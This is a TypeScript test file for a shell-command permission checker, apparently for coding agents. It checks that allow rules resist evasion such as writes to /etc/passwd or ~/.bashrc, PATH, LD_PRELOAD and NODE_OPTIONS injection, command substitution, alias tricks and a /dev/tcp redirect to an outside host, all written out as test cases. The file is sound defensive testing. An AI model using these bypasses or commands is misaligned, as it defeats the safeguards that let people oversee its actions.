// An allowed command stays allowed in the ways that people and agents write it, and nothing beside it comes with it.
import { expect, test } from 'vitest';
import { decide } from './decide.ts';
import { bash, policy, rule } from './testing/make-call.ts';
import { suggestRule } from './testing/suggest-rule.ts';

const rules = [
  'npm test:*',
  'npm run build',
  'git log:*',
  'git * main',
  'ls *',
  'grep:*',
  'npx eslint:*',
  'python3 run.py',
].map((text) => rule('allow', `Bash(${text})`));
const edits = rule('allow', 'Edit(/out/**)');
const verdictOf = (command: string) => decide(policy([...rules, edits]), bash(command)).decision;

test.each([
  'npm test',
  'npm test -- --run a.test.ts',
  'npm run build',
  'npm test && npm run build',
  'npm test || echo failed',
  'npm test; ls -la',
  '(npm test)',
  '{ npm test; }',
  'if npm test; then echo ok; else echo no; fi',
  'for i in 1 2 3; do npm test; done',
  'cd packages/a && npm test',
  'cd packages/a; npm test > /dev/null 2>&1',
  'npm test 2>&1 | grep -v warn',
  'npm test > out/log.txt 2>&1',
  'NODE_ENV=test CI=1 npm test',
  'timeout 60 npm test',
  'time npm test',
  'nice npm test',
  'nohup npm test &',
  "bash -c 'npm test'",
  "sh -c 'npm test && npm run build'",
  'echo "$(git log -1)"',
  'git log "$(git log -1)"',
  'git -C packages/a log --oneline',
  'git --no-pager log',
  'git merge main',
  'git checkout -q main',
  'ls',
  'ls -la src',
  'ls *.ts',
  'ls $HOME',
  'grep -rn "a b" src',
  'npx eslint src',
  'eval npm test',
  "npm test <<'EOF'\nrm -rf x\nEOF",
  'set -euo pipefail; npm test',
  't() { npm test; }; t',
  'npm test # rm -rf x',
  'ls "rm -rf x"',
  'python3 run.py',
])('allowed: %j', (command) => expect(verdictOf(command)).toBe('allow'));

test.each([
  'npm testing',
  'npm run build --force',
  'npm run builds',
  'lsof',
  '"npm test"',
  '"git log" -1',
  './npm test',
  '/tmp/npm test',
  'npm "test -- x"',
  'NPM test',
  'npm test > src/a.ts',
  'npm test > /etc/passwd',
  'npm test > $file',
  'npm test >> ~/.bashrc',
  'PATH=/tmp npm test',
  'PATH=/tmp; npm test',
  'export LD_PRELOAD=a.so; npm test',
  'FOO=1 npm test',
  'env npm test',
  'sudo npm test',
  'cd / && npm test',
  'cd $dir && npm test',
  'npm $verb',
  'npm tes$x',
  'n{pm,ode} test',
  '$npm test',
  'npm test $(date)',
  'npm test `date`',
  'npm test; date',
  'npm test | tee log',
  'false && ls() { date; }; ls; date',
  'ls() { :; }; date',
  "bash -lc 'npm test'",
  "bash -c 'npm test; date'",
  'npx prettier .',
  'npx --what eslint',
  'git push',
  'git -c core.pager=less log',
  'git --exec-path=/tmp log',
  'source env.sh && npm test',
  'alias npm=date; npm test',
  "python3 -c 'print(1)'",
  'python3 run.py2',
  'x=1',
  '',
  '# npm test',
  'true',
  "npm test 'unclosed",
  "bash x.sh -c 'npm test'",
  "bash -x x.sh -c 'npm test'",
  "bash x.sh -s <<< 'npm test'",
  'read PATH <<< /tmp; npm test',
  'for PATH in /tmp; do npm test; done',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's, not ours
  ': ${NODE_OPTIONS:=-r./x.js}; npm test',
  '((PATH=1)); npm test',
  'set -k; npm test NODE_OPTIONS=-r./x.js',
  'npm test > /dev/tcp/example.com/80',
])('not allowed: %j', (command) => expect(verdictOf(command)).toBe('none'));

test('`Bash` alone allows all of it, known or not, but no deny', () => {
  const open = policy([rule('allow', 'Bash'), rule('deny', 'Bash(rm:*)')]);
  expect(decide(open, bash("python3 -c 'print(1)' > /etc/x")).decision).toBe('allow');
  expect(decide(open, bash('x=1')).decision).toBe('allow');
  expect(decide(open, bash('rm x')).decision).toBe('deny');
  expect(decide(open, bash('$x')).decision).toBe('deny');
});

test('commands without effect are allowed by name when they are the whole call', () => {
  const named = policy([rule('allow', ['Bash(echo:*)', 'Bash(pwd)'])], 'ask');
  const verdicts = (...commands: readonly string[]) => commands.map((command) => decide(named, bash(command)).decision);
  expect(verdicts('echo started', 'pwd', 'echo a && pwd', 'nice echo a', "sh -c 'echo a'")).toEqual(
    Array(5).fill('allow'),
  );
  expect(verdicts('true', 'echo a; true', 'pwd -P', 'echo $(date)', 'echo a > out', 'x=1')).toEqual(
    Array(6).fill('ask'),
  );
  const denied = policy([rule('allow', 'Bash(echo:*)'), rule('deny', 'Bash(pwd)')]);
  expect(decide(denied, bash('echo a; pwd')).decision).toBe('deny');
  expect(suggestRule(bash('echo started; pwd'))?.patterns).toEqual(['Bash(echo started)', 'Bash(pwd)']);
});

test('tells a line break or a tab in a word from a blank to allow it, and not to deny it', () => {
  const decisions = (decision: 'allow' | 'deny', pattern: string) =>
    ['a b', 'a\nb', 'a\tb', 'a\u00a0b', 'a*b'].map(
      (name) => decide(policy([rule(decision, `Bash(rm ${pattern})`)]), bash(`rm '${name}'`)).decision,
    );
  expect(decisions('allow', '"a b"')).toEqual(['allow', 'none', 'none', 'none', 'none']);
  expect(decisions('allow', "$'a\\nb'")).toEqual(['none', 'allow', 'none', 'none', 'none']);
  expect(decisions('allow', "$'a\\x09b'")).toEqual(['none', 'none', 'allow', 'none', 'none']);
  expect(decisions('allow', "$'a\\u00a0b'")).toEqual(['none', 'none', 'none', 'allow', 'none']);
  expect(decisions('allow', "$'a\\x2ab'")).toEqual(['none', 'none', 'none', 'none', 'allow']);
  expect(decisions('allow', "$'a*b'")).toEqual(['allow', 'allow', 'allow', 'allow', 'allow']);
  for (const pattern of ['"a b"', "$'a\\nb'"])
    expect(decisions('deny', pattern)).toEqual(['deny', 'deny', 'deny', 'deny', 'none']);
});

test('denies that nothing in a command can be leave it alone', () => {
  const strict = policy(
    [rule('deny', ['Bash(rm:*)', 'Bash(git push:*)', 'Read(.env)', 'Edit(//etc/**)', 'WebFetch(domain:example.com)'])],
    'allow',
  );
  for (const command of [
    'git commit -m "do not rm or push"',
    'git log --oneline push',
    'echo rm -rf x',
    "python3 -c 'import json,sys; print(json.load(sys.stdin)[1])'",
    'npm run rm',
    'cat *.ts | head',
    'ls -la .',
    'cp .env.example a',
    'grep -rn push src | sort | uniq -c',
    'curl -s https://example.org/a.json -o a.json',
    "awk '{ print $1 }' a.txt",
    "sed -n '1,20p' a.ts",
    "sed -i 's/one/two/g' a.ts",
    "sed -E 's/(a|b)w /c/; /x/,/e w/d; $!N; 1~2p' a.ts",
    "sed -e 's|we|e w|2' -e '/^w /d' a.ts",
    "sed '/start/a\\\\\\n  e rm' a.ts",
    'command -v rm',
    "bash -euo pipefail -c 'npm test'",
    'while read -r command; do echo "$command"; done < a.txt',
    'for shell in bash zsh; do command -v "$shell"; done',
    'n=0; for i in 1 2; do n=$((n + i)); ((n += 1)); done; echo "$n"',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's, not ours
    'name="it\'s ${USER:-me}"; echo "${name#\'a\'}"',
    'check() { npm run "$1"; }; check build',
    'while read -r line; do echo "$line"; done < a.txt',
    'x=$(date +%s); echo "$x" > out',
    'git commit -m "$(cat <<\'EOF\'\nfix: a push; rm\nEOF\n)"',
  ])
    expect([command, decide(strict, bash(command)).reason]).toEqual([command, expect.stringContaining('is allowed')]);
});
